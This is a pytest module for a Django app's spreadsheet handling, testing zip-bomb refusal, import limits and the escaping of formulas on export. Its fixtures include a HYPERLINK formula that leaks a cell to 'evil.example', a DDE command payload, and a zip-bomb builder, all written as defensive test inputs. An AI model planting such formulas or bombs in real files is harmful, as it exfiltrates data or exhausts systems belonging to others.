"""Spreadsheets in and out (`core/sheets.py`): limits and zip bombs on import, inert formulas on export."""

import io
import time
import tracemalloc
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import IntegrityError, transaction
from django.http import HttpResponse
from django.urls import path
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from prongsai import urls as project_urls
from prongsai.api import exports
from prongsai.core import jobs, sheets
from prongsai.core.models import Job, Organisation
from prongsai.core.tests.factories import make_org
from prongsai.disclosure import itas, procurement
from prongsai.disclosure.models import ProcurementLine, Publication
from prongsai.disclosure.tests.factories import item_of, make_publication
from prongsai.ita import results, tabular
from prongsai.ita.models import Result
from prongsai.ita.tests.factories import make_result
from prongsai.plans import export as plan_export
from prongsai.plans.tests.factories import make_measure, make_plan
from prongsai.property import register
from prongsai.property import tasks as property_tasks
from prongsai.property.models import Asset

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"ดูรายละเอียด")'
DANGEROUS = [FORMULA, "+66 1234", "-2+3+cmd|' /C calc'!A0", "@SUM(1,2)", "\t=1+1", "\r=1+1"]


def _bomb(inflated_mb: int = 64) -> bytes:
    """A real workbook whose sheet XML is padded with spaces: ~0.1 MB that inflates to `inflated_mb`."""
    book = Workbook()
    book.active.append(["ลำดับที่", "x"])
    plain = io.BytesIO()
    book.save(plain)
    out = io.BytesIO()
    with zipfile.ZipFile(plain) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as bomb:
        for info in source.infolist():
            content = source.read(info.filename)
            if info.filename == "xl/worksheets/sheet1.xml":
                head, tail = content.split(b"<sheetData>", 1)
                content = head + b" " * (inflated_mb * sheets.MIB) + b"<sheetData>" + tail
            bomb.writestr(info.filename, content, compress_type=zipfile.ZIP_DEFLATED, compresslevel=9)
    return out.getvalue()


@pytest.fixture(scope="module")
def bomb() -> bytes:
    return _bomb()


# --- reading: limits ------------------------------------------------------------------------


def test_a_zip_bomb_is_refused_at_once_with_bounded_memory(bomb):
    assert len(bomb) < sheets.MIB
    tracemalloc.start()
    started = time.perf_counter()
    with pytest.raises(sheets.SheetError, match="zip bomb") as caught:
        list(sheets.read(bomb, "bomb.xlsx"))
    elapsed = time.perf_counter() - started
    _size, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert caught.value.limit == "max_ratio" and "เท่า" in caught.value.message_th
    assert elapsed < 2 and peak < 8 * sheets.MIB  # the 64 MB sheet was never inflated


def test_the_total_inflated_size_is_a_limit_too():
    book = Workbook()
    book.active.append(["a"] * 50)
    data = sheets.save(book)
    with pytest.raises(sheets.SheetError, match="uncompressed size limit") as caught:
        list(sheets.read(data, "a.xlsx", sheets.Limits(max_uncompressed=1_000)))
    assert caught.value.limit == "max_uncompressed"


@pytest.mark.django_db
def test_every_xlsx_import_refuses_the_bomb_and_writes_nothing(bomb):
    org = make_org()
    found = procurement.import_file(org, 2565, 10, bomb, "skr1.xlsx")
    assert "zip bomb" in found.errors[0] and not ProcurementLine.objects.exists()
    report = results.import_file(bomb, "ita.xlsx")
    assert "zip bomb" in report.errors[0].message_en and not Result.objects.exists()
    with pytest.raises(sheets.SheetError, match="zip bomb"):
        register.read_xlsx(io.BytesIO(bomb))


@pytest.mark.django_db
def test_the_property_import_job_reports_the_bomb_and_saves_nothing(bomb):
    job = jobs.start(
        property_tasks.import_register, kind="property.import", payload={"filename": "b.xlsx"},
        upload=SimpleUploadedFile("b.xlsx", bomb), organisation=make_org(),
    )  # fmt: skip
    assert job.status == Job.Status.DONE and "zip bomb" in job.result["errors"][0]
    assert job.result["imported"] == 0 and not Asset.objects.exists()


def test_a_csv_over_the_row_limit_is_refused_naming_the_limit():
    data = ("a,b\n" + "1,2\n" * 11).encode()
    with pytest.raises(sheets.SheetError, match="row limit") as caught:
        list(sheets.read(data, "a.csv", sheets.Limits(max_rows=10)))
    assert caught.value.limit == "max_rows" and "แถว" in caught.value.message_th


@pytest.mark.django_db
def test_an_import_over_the_row_limit_stores_nothing():
    org = make_org()
    rows = [",".join(procurement.HEADINGS)] + [f"{n},งาน {n},500,เฉพาะเจาะจง" for n in range(1, 10_002)]
    found = procurement.import_file(org, 2565, 10, "\n".join(rows).encode(), "big.csv")
    assert "10,000 rows (the row limit)" in found.errors[0] and not ProcurementLine.objects.exists()


def test_a_member_packed_with_an_unknown_method_is_a_damaged_file():
    """zipfile raises NotImplementedError for a compression method it does not know (the fuzz
    test found one): the reader says the file is damaged, in Thai and English, and raises nothing else."""
    book = Workbook()
    book.active.append(["a", "b"])
    out = io.BytesIO()
    book.save(out)
    data = bytearray(out.getvalue())
    for signature, at in ((b"PK\x03\x04", 8), (b"PK\x01\x02", 10)):  # local and central headers
        start = data.find(signature)
        while start != -1:
            data[start + at : start + at + 2] = (16392).to_bytes(2, "little")
            start = data.find(signature, start + 4)
    with pytest.raises(sheets.SheetError) as caught:
        list(sheets.read(bytes(data), "odd.xlsx"))
    assert caught.value.message_th and caught.value.message_en
    data = bytearray(out.getvalue())
    start = data.find(b"PK\x01\x02")
    while start != -1:  # every member "needs" zip version 8.1, which zipfile refuses to open at all
        data[start + 6 : start + 8] = (81).to_bytes(2, "little")
        start = data.find(b"PK\x01\x02", start + 4)
    with pytest.raises(sheets.SheetError):
        list(sheets.read(bytes(data), "new.xlsx"))


def test_size_columns_and_cell_length_are_limits():
    limits = sheets.Limits(max_bytes=100, max_columns=3, max_cell_chars=5)
    with pytest.raises(sheets.SheetError, match="file size limit"):
        list(sheets.read(b"a,b\n" * 40, "a.csv", limits))
    with pytest.raises(sheets.SheetError, match="column limit"):
        list(sheets.read(b"a,b,c,d\n", "a.csv", limits))
    with pytest.raises(sheets.SheetError, match="cell length limit"):
        list(sheets.read(b"a,bbbbbb\n", "a.csv", limits))


@pytest.mark.django_db
def test_an_ita_file_over_the_size_limit_is_refused_before_it_is_read():
    big = b"org_code,year\n" + b"x" * tabular.LIMITS.max_bytes
    report = results.import_file(big, "big.csv")
    assert "file size limit" in report.errors[0].message_en and not Result.objects.exists()


@pytest.mark.parametrize(
    "encode",
    [
        lambda t: t.encode("utf-8"),
        lambda t: t.encode("utf-8-sig"),
        lambda t: t.encode("cp874"),
        lambda t: t.encode("utf-16"),  # with its BOM, as Excel's "Unicode text"
    ],
)
def test_csv_encodings_are_detected(encode):
    assert list(sheets.read(encode("ชื่อ;จำนวน\nเทศบาล;๒\n"), "a.csv")) == [["ชื่อ", "จำนวน"], ["เทศบาล", "๒"]]


@pytest.mark.django_db
def test_a_cp874_procurement_csv_imports():
    org = make_org()
    text = ",".join(procurement.HEADINGS) + '\n1,จ้างซ่อมถนนลูกรัง,"๔๙,๕๐๐",เฉพาะเจาะจง\n'
    found = procurement.import_file(org, 2565, 10, text.encode("cp874"), "skr1.csv")
    assert found.ok, found.errors
    line = ProcurementLine.objects.get()
    assert line.project == "จ้างซ่อมถนนลูกรัง" and line.budget == 49500


# --- writing: formulas are inert ------------------------------------------------------------


def _cells(content: bytes) -> list:
    book = load_workbook(io.BytesIO(content))  # not read-only: data_type is what Excel will see
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def _assert_inert(content: bytes, text: str = FORMULA) -> None:
    found = [c for c in _cells(content) if isinstance(c.value, str) and text in c.value]
    assert found, "the dangerous text is missing from the export"
    for cell in found:
        assert cell.data_type == "s" and cell.value == "'" + text


@pytest.mark.parametrize("text", DANGEROUS)
def test_the_writers_escape_every_dangerous_start(text):
    _assert_inert(sheets.xlsx_bytes({"s": [["title"], [text]]}), text)
    assert sheets.csv_bytes([[text]]).decode("utf-8-sig").lstrip('"').startswith("'")
    assert list(sheets.read(sheets.xlsx_bytes({"s": [[text]]}), "a.xlsx")) == [[text]]  # read back as is


@given(st.lists(st.text(alphabet="กขค่้ ab=+-@'\t\r\n,;\"", min_size=1, max_size=12), min_size=1, max_size=4))
@settings(max_examples=60, deadline=None)
def test_what_is_written_reads_back_the_same(cells):
    rows = [["h1", "h2", "h3", "h4"], cells]
    assert list(sheets.read(sheets.csv_bytes(rows), "a.csv")) == rows
    xlsx_cells = [c.replace("\r", "") or "x" for c in cells]  # XML keeps no carriage returns
    assert list(sheets.read(sheets.xlsx_bytes({"s": [rows[0], xlsx_cells]}), "a.xlsx"))[1] == xlsx_cells


def test_numbers_and_dates_stay_typed():
    cells = _cells(sheets.xlsx_bytes({"s": [[-5, 2.5, "ok"]]}))
    assert [c.data_type for c in cells] == ["n", "n", "s"] and cells[0].value == -5


@pytest.mark.django_db
def test_the_procurement_summary_published_to_the_oit_page_is_inert():
    org = make_org()
    rows = [procurement.HEADINGS, [1, FORMULA, 500, "เฉพาะเจาะจง", "", "@evil", "", "", "", ""]]
    summary = procurement.import_file(org, 2565, 10, sheets.xlsx_bytes({"s": rows}), "skr1.xlsx").summary
    publication = procurement.publish_summary(summary)
    with Publication.objects.get(pk=publication.pk).file.open("rb") as stored:
        content = stored.read()
    _assert_inert(content)
    again = procurement.import_file(org, 2565, 11, content, "again.xlsx")  # the form reads back as it was
    assert again.ok and again.lines[0].project == FORMULA and again.lines[0].winner == "@evil"


@pytest.mark.django_db
def test_the_plan_export_is_inert():
    plan = make_plan(make_org())
    make_measure(plan, title=FORMULA)
    _assert_inert(plan_export.render(plan, "xlsx"))


@pytest.mark.django_db
def test_the_api_bulk_exports_and_the_itas_table_are_inert():
    org = make_org()
    make_publication(item_of(org, year=2565), FORMULA)
    content, _type, _name = exports.export(org, 2565, "xlsx", "all", "https://example.org")
    _assert_inert(content)
    csv_content, _type, _name = exports.export(org, 2565, "csv", "publications", "https://example.org")
    assert "'" + FORMULA.replace('"', '""') in csv_content.decode("utf-8-sig")
    item = item_of(org, year=2565)
    item.title_th = FORMULA
    item.save()
    table = itas.rows(org, 2565, "https://example.org")
    _assert_inert(itas.to_xlsx(table, 2565))
    assert "'" + FORMULA.replace('"', '""') in itas.to_csv(table).decode("utf-8-sig")


@pytest.mark.django_db
def test_the_ita_export_is_inert():
    org = make_org(name_th=FORMULA)
    make_result(org)
    rows = results.export_rows(Result.objects.all())
    _assert_inert(tabular.write_rows(rows, "xlsx"))


# --- ITA round trip ----------------------------------------------------------------------------


@pytest.mark.django_db
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_ita_export_then_import_twice_creates_no_duplicate_organisation(fmt):
    coded = make_org(official_code="6610101")
    uncoded = make_org("no-code")  # exported under its slug
    make_result(coded)
    make_result(uncoded)
    organisations = Organisation.objects.count()
    exported = tabular.write_rows(results.export_rows(Result.objects.all()), fmt)
    for _ in range(2):
        report = results.import_file(exported, f"ita.{fmt}")
        assert report.ok, report.errors
        assert (report.created_organisations, report.created, report.updated) == (0, 0, 2)
    assert Organisation.objects.count() == organisations and Result.objects.count() == 2


# --- database errors that are the request's fault ------------------------------------------------


def _duplicate_organisation(request):
    make_org("taken")
    with transaction.atomic():
        make_org("taken")
    return HttpResponse("unreachable")


urlpatterns = [path("duplicate/", _duplicate_organisation), *project_urls.urlpatterns]


@pytest.mark.django_db
@pytest.mark.urls(__name__)
def test_an_integrity_error_is_a_409_with_a_message_not_a_503(client):
    with pytest.raises(IntegrityError), transaction.atomic():  # the view meets the database's refusal
        _duplicate_organisation(None)
    client.raise_request_exception = False
    response = client.get("/duplicate/")
    assert response.status_code == 409
    body = response.content.decode()
    assert "ซ้ำ" in body and "Nothing was saved" in body and "Traceback" not in body
